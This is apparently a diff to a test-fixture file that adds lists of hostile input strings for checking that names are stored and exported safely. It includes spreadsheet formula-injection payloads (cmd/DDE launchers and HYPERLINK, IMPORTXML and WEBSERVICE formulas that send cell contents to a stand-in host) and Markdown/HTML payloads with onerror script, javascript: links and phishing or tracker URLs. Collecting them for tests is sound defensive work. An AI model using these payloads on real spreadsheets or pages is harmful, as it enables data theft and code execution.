@@ -133,3 +133,71 @@ HTML: list[str] = [
     "&lt;script&gt;alert(25)&lt;/script&gt;",
     "<scr<script>ipt>alert(26)</script>",
 ]
+
+# Cells a spreadsheet would run as a formula (OWASP "CSV injection"), and
+# near-misses that must stay as written. Each is a valid name: stored,
+# exported and imported back exactly as written, never run.
+FORMULA: list[str] = [
+    "=1+1",
+    '=HYPERLINK("http://x.example/?leak="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"http://x.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
+    "=WEBSERVICE(\"http://x.example/\"&A1)",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "+1",
+    "-x",
+    "@x",
+    "=",
+    "'=1+1",           # an apostrophe the user typed stays
+    "''=1+1",
+    "'",
+    "'plain",
+    "＝1+1",           # full-width equals sign
+    "＋1", "－1", "＠x",
+    "=1+1\r=2+2",      # a lone carriage return, then another formula
+    "a\rb",
+    "a\r\nb",
+    "a\n=1+1",
+    "\"=1+1\"",
+    ",=1+1",
+    "x=1+1",
+    "-5",              # plain numbers are not guarded
+    "-12.5",
+    "1e5",
+    "自贡=1+1",
+    "=自贡",
+]
+
+# Markdown that would render live: images that fetch, links that lead away,
+# HTML that runs, and syntax that reshapes a table.
+MARKDOWN: list[str] = [
+    "<img src=x onerror=alert(1)>",
+    "![](https://tracker.example/p.gif)",
+    "![x](https://tracker.example/p.gif \"t\")",
+    "[点击](https://phish.example/login)",
+    "[a][1]\n\n[1]: https://phish.example/",
+    "<https://phish.example/>",
+    "https://phish.example/login",
+    "www.phish.example",
+    "user@phish.example",
+    "javascript:alert(1)",
+    "[x](javascript:alert(1))",
+    "<a href=\"https://phish.example\">x</a>",
+    "a | b | c",
+    "**bold** _em_ `code` ~~gone~~",
+    "# heading",
+    "> quote",
+    "- item",
+    "1. item",
+    "\\",
+    "\\[not a link\\](x)",
+    "&lt;img src=x onerror=alert(2)&gt;",
+    "&#60;img src=x onerror=alert(3)&#62;",
+    "<!-- hidden -->",
+    "line\none",
+    "$x^2$",
+    "[^1]",
+]
